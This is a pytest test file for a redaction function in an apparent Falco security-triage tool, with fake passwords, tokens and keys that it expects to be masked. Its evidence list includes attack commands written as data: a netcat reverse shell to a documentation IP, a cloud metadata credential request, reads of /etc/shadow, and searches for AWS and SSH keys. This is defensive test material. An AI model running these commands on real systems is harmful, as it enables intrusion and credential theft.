"""Redaction: passwords, tokens, AWS keys, private keys and other credentials in command lines,
environment strings, URLs, headers and JSON are replaced by ``[REDACTED]`` (keeping the name
so a reader sees *that* a secret was passed); ordinary evidence is left alone; and hostile
input cannot make redaction slow."""

from __future__ import annotations

import time

import pytest

from falco_triage.events.redact import REDACTED, redact, redact_all

JWT = (
    "eyJhbGciOiJSUzI1NiIsImtpZCI6IjdGd1lQbm9tR2xxZ1hCd3N6In0"
    ".eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50In0"
    ".Q2xqH3p1Zk9xV1ZxR0d0bG5mM0NvZ0h4"
)
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq\nZ9xk2Q==\n-----END RSA PRIVATE KEY-----"
)

SECRETS = [
    # (input, the secret that must disappear, what must remain)
    ("mysql -uroot -pS3cretPass shop", "S3cretPass", "mysql -uroot -p[REDACTED] shop"),
    ("mysqldump -h db -u app -pHunter2! shop", "Hunter2!", "-p[REDACTED] shop"),
    ("psql postgres://app:Pa55w0rd@db:5432/shop", "Pa55w0rd", "postgres://app:[REDACTED]@db"),
    ("redis-cli -u redis://default:r3dis@cache:6379", "r3dis", "redis://default:[REDACTED]@"),
    ("curl -H 'Authorization: Bearer abcdef123456789'", "abcdef123456789", "Bearer [REDACTED]"),
    ('curl -H "Authorization: Basic dXNlcjpwYXNz"', "dXNlcjpwYXNz", "Basic [REDACTED]"),
    ("curl -u admin:Adm1nPass https://x", "Adm1nPass", "-u admin:[REDACTED]"),
    ("curl --user deploy:d3ploy! https://x", "d3ploy!", "--user deploy:[REDACTED]"),
    ("wget --header=Authorization:token-abc123xyz x", "token-abc123xyz", "Authorization:"),
    ("sshpass -p 'Tr0ub4dor' ssh root@10.0.0.5", "Tr0ub4dor", "sshpass -p '[REDACTED]' ssh"),
    ("app --db-password hunter2 --verbose", "hunter2", "--db-password [REDACTED] --verbose"),
    ("app --password=hunter2 --verbose", "hunter2", "--password=[REDACTED] --verbose"),
    ("vault login -method=userpass password=vaultpw", "vaultpw", "password=[REDACTED]"),
    ("MYSQL_ROOT_PASSWORD=rootpw PATH=/bin", "rootpw", "MYSQL_ROOT_PASSWORD=[REDACTED] PATH=/bin"),
    ("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI", "KEY="),
    ("aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", "aws_access_key_id"),
    ("export AWS_ACCESS_KEY_ID=ASIAY34FZKBOKMUTVV7A", "ASIAY34FZKBOKMUTVV7A", "export"),
    ("key AKIAIOSFODNN7EXAMPLE in a log line", "AKIAIOSFODNN7EXAMPLE", "in a log line"),
    ("GITHUB_TOKEN=ghp_" + "a" * 36, "ghp_" + "a" * 36, "GITHUB_TOKEN="),
    ("git clone https://x:ghp_" + "B" * 36 + "@github.com/o/r", "ghp_", "@github.com/o/r"),
    ("echo glpat-" + "x" * 20, "glpat-" + "x" * 20, "echo"),
    ("SLACK=xoxb-1234567890-abcdefghij", "xoxb-1234567890", "SLACK="),
    ("maps?k=AIza" + "S" * 35, "AIza" + "S" * 35, "maps?k="),
    ("STRIPE=sk_live_" + "4" * 24, "sk_live_", "STRIPE="),
    (f"kubectl --token {JWT} get pods", JWT, "get pods"),
    (f"cat token: {JWT}", JWT, "cat token"),
    (f"echo {JWT} > /tmp/t", "eyJpc3Mi", "echo [REDACTED] > /tmp/t"),
    ('{"password": "p@ss word", "user": "bob"}', "p@ss word", '"user": "bob"'),
    ("{'api_key': 'k-123'}", "k-123", "'api_key': '[REDACTED]'"),
    ("client_secret=abc&grant_type=x", "abc&", "&grant_type=x"),
    ("https://h/cb?access_token=tok123&state=1", "tok123", "&state=1"),
    ("ssh-add - <<< " + PEM, "MIIEpAIBAAKCAQEA7bq", "-----END RSA PRIVATE KEY-----"),
    ("-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXk", "b3BlbnNzaC1rZXk", "-----BEGIN"),
    ("echo 'root:$6$rounds=5000$saltsalt$" + "h" * 86 + "' | chpasswd", "h" * 86, "chpasswd"),
    ("DB_PWD=x9y8z7 ./start", "x9y8z7", "DB_PWD="),
    ("PGPASSWORD=pg_pw psql", "pg_pw", "PGPASSWORD="),
    ("session_id=s3ss10n; path=/", "s3ss10n", "path=/"),
    ("Cookie: sid=abc; cookie=zzz", "zzz", "cookie="),
]

EVIDENCE = [
    "bash",
    "cat /etc/shadow",
    "grep -r aws_secret_access_key /root/.aws /home",
    "grep -rl BEGIN RSA PRIVATE /home /root",
    "find / -name id_rsa -o -name '*.pem'",
    "tee -a /root/.ssh/authorized_keys",
    "ssh -p 2222 git@example.com",
    "docker run -p 8080:80 nginx",
    "nc -e /bin/sh 203.0.113.50 4444",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "HOME=/root PWD=/workspace OLDPWD=/ SHELL=/bin/bash",
    "A shell was spawned in a container with an attached terminal",
    "Basic Interactive Reconnaissance",
    "passwd alice",
    "ssh-keygen -t ed25519",
    "openssl s_client -connect db:5432",
    "10.244.1.17:43312->10.96.0.1:443",
    "https://example.com/path?page=2",
    "user=root user_uid=0 process=bash",
]


@pytest.mark.parametrize(("text", "secret", "kept"), SECRETS, ids=[s[0][:40] for s in SECRETS])
def test_secret_is_redacted(text: str, secret: str, kept: str) -> None:
    result = redact(text)
    assert secret not in result
    assert kept in result
    assert REDACTED in result


@pytest.mark.parametrize("text", EVIDENCE)
def test_ordinary_evidence_is_untouched(text: str) -> None:
    assert redact(text) == text


def test_redaction_is_idempotent() -> None:
    for text, _, _ in SECRETS:
        once = redact(text)
        assert redact(once) == once


def test_redact_all_matches_redact_one_by_one() -> None:
    texts = [text for text, _, _ in SECRETS] + EVIDENCE
    assert redact_all(texts) == [redact(t) for t in texts]
    assert redact_all(EVIDENCE) == EVIDENCE


@pytest.mark.parametrize(
    "hostile",
    [
        "password" * 20_000,
        "-" * 100_000,
        "--password " * 10_000,
        "a:" * 50_000 + "@",
        "x://" + "a" * 100_000 + ":b",
        "eyJ" + "a" * 50_000 + ".eyJ" + "b" * 50_000,
        "-----BEGIN RSA PRIVATE KEY-----" + "A" * 200_000,
        "token=" * 30_000,
        "Authorization: " * 10_000,
        "mysql " + " -p" * 50_000,
        "$6$" * 50_000,
    ],
    ids=lambda h: h[:16],
)
def test_hostile_input_is_redacted_in_linear_time(hostile: str) -> None:
    started = time.perf_counter()
    redact(hostile)
    assert time.perf_counter() - started < 1.0
